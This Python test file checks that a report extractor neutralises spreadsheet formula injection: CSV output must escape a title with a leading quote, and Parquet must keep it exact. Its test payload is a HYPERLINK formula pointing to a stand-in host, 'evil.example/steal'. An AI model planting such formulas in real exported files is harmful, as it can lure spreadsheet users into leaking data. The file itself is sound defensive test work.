"""Hardening: report text is data, never markup or a formula in anything we write."""
from __future__ import annotations

import pandas as pd
import pyarrow as pa

from extractor.runner import RunOptions, run_batch
from extractor.tables import SCHEMAS

FORMULA = '=HYPERLINK("http://evil.example/steal","Open the report")'


def test_a_formula_in_a_report_is_inert_in_the_csv_and_exact_in_parquet(sample_text, tmp_path):
    """A report titled with a spreadsheet formula: documents.csv holds it escaped (a leading
    quote), Parquet holds it exactly, and validation still passes."""
    report = tmp_path / "reports" / "formula.txt"
    report.parent.mkdir()
    report.write_text(sample_text.replace("**Striving for a Better Life for the People:", f"**{FORMULA}", 1),
                      encoding="utf-8")
    out = tmp_path / "out"
    summary = run_batch([report], RunOptions(output_dir=str(out), model="none", use_cache=False))
    assert summary.ok
    parquet_title = pd.read_parquet(out / "documents.parquet")["title"].iloc[0]
    assert parquet_title.startswith(FORMULA)
    csv_title = pd.read_csv(out / "documents.csv", dtype=str)["title"].iloc[0]
    assert csv_title == "'" + parquet_title
    # no text cell of any CSV starts with a formula character (numbers are never escaped: a
    # longitude is -43.18)
    for table in out.glob("*.csv"):
        frame = pd.read_csv(table, dtype=str, keep_default_na=False)
        text = {f.name for f in SCHEMAS[table.stem] if f.type == pa.string()}
        for column in (c for c in frame.columns if c in text):
            assert not frame[column].str.match(r"^[=+\-@\t\r]").any(), (table.name, column)
